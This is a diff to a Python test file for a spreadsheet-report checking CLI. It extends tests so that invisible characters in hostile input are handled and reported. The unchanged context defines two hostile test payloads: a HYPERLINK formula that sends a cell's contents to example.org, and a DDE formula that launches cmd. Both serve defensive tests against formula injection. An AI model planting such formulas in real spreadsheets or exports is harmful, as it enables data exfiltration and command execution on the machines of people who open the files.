@@ -22,6 +22,7 @@ from click.testing import CliRunner
 
 from support.reports import Changes, report
 from vbpqip.cli import main
+from vbpqip.domain.characters import as_read, is_ignored, visible
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -130,9 +131,10 @@ def test_2_feedback_has_no_formula_and_leads_nowhere_else(folder: Path, words: s
 
 @every_hostile
 def test_3_a_page_has_no_markup_but_its_own(folder: Path, words: str) -> None:
-    """The same tags as a harmless report with the same faults has."""
+    """The same tags as a harmless report with the same faults has, invisible characters among them."""
+    invisible = "".join(filter(is_ignored, words))
     (folder / "report.xlsx").write_bytes(hostile(words))
-    (folder / "harmless.xlsx").write_bytes(hostile("Mercy"))
+    (folder / "harmless.xlsx").write_bytes(hostile(f"Mercy{invisible}"))
     printed("check", "report.xlsx", "harmless.xlsx", "--feedback", "back")
 
     tags, expected = (
@@ -167,8 +169,10 @@ def test_4_an_e_mail_has_its_own_headers(folder: Path, words: str) -> None:
 
 @every_hostile
 def test_5_a_document_keeps_what_was_received(folder: Path, words: str) -> None:
+    """A name is read without what nobody sees; what is said of it names that too."""
     (folder / "report.xlsx").write_bytes(hostile(words))
 
     review = json.loads(printed("check", "report.xlsx", "--format", "json"))["reviews"][0]
 
-    assert review["facility"].split() == words.split()
+    assert review["facility"].split() == as_read(words).split()
+    assert any(each["found"].split() == visible(words).split() for each in review["findings"] if each["cell"] == "A5")
